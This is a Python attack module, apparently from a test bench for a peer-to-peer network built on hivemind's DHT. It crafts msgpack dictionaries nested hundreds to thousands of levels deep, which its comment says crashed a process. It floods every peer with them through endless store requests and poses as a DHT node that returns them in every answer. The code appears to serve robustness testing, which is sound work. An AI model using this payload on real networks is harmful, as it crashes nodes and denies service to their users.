"""Dictionaries nested hundreds deep: in stores to every peer, and in the answers of nodes that all of them know."""

from __future__ import annotations

import asyncio
import time

import msgspec
from hivemind.proto import dht_pb2

from bench.harness.stranger import dht
from bench.harness.stranger.connection import Connection
from bench.harness.stranger.multistream import NotAgreed
from bench.harness.stranger.peer import Stranger
from bench.harness.target import Target, TargetPeer
from p2pnet.network.interface import key_id

DICTIONARY = 0x50
DEPTHS = (250, 5_000)
"""The first ended a process that had hivemind read it; the second has 140 kB."""

PAUSE_S = 0.1
CALL_S = 5.0
FAILURES = (OSError, EOFError, TimeoutError, NotAgreed, dht.CallFailed)


def nested(depth: int) -> bytes:
    """A dictionary of hivemind's in a dictionary, and so on."""
    packed = b"\xc0"
    for _ in range(depth):
        head = msgspec.msgpack.encode([None, 1.0, [["a", b"", 1.0]]])
        items = head[: -len(b"\xc4\x00") - 9] + packed + head[-9:]
        packed = msgspec.msgpack.encode(msgspec.msgpack.Ext(DICTIONARY, items))
    return packed


async def attack(target: Target, depths: tuple[int, ...] = DEPTHS) -> None:
    packed = [nested(depth) for depth in depths]
    peers = (target.bootstrap, *target.workers)
    async with Stranger() as stranger, asyncio.TaskGroup() as group:
        _answer_with(stranger, packed[0])
        await stranger.listen()
        for peer in peers:
            group.create_task(_store_for_ever(stranger, peer, packed))


async def _store_for_ever(stranger: Stranger, peer: TargetPeer, packed: list[bytes]) -> None:
    while True:
        try:
            connection = await stranger.dial(peer.tcp_address)
            await dht.ping(connection, stranger.identity)
            for value in packed:
                for subkey in (b"", msgspec.msgpack.encode(stranger.peer_id), value[:60]):
                    await _store(connection, subkey, value)
        except FAILURES:
            pass  # once more
        await asyncio.sleep(PAUSE_S)


async def _store(connection: Connection, subkey: bytes, value: bytes) -> None:
    request = dht_pb2.StoreRequest(
        keys=[key_id("p2pnet/1/workers/1")],
        subkeys=[subkey],
        values=[value],
        expiration_time=[time.time() + 60],
        in_cache=[False],
    )
    try:
        async with asyncio.timeout(CALL_S):
            await dht.store(connection, request)
    except dht.CallFailed:
        pass  # refused, as it should be


def _answer_with(stranger: Stranger, packed: bytes) -> None:
    """Be a node whose answer to everything is this dictionary."""
    dht.take_part(stranger)

    async def found(data: bytes, _: str) -> bytes:
        result = dht_pb2.FindResult(type=dht_pb2.FOUND_DICTIONARY, value=packed, expiration_time=time.time() + 60)
        keys = dht_pb2.FindRequest.FromString(data).keys
        response = dht_pb2.FindResponse(results=[result] * len(keys), peer=dht.node_info(stranger.identity))
        return bytes(response.SerializeToString())

    dht.answer(stranger, dht.FIND, found)
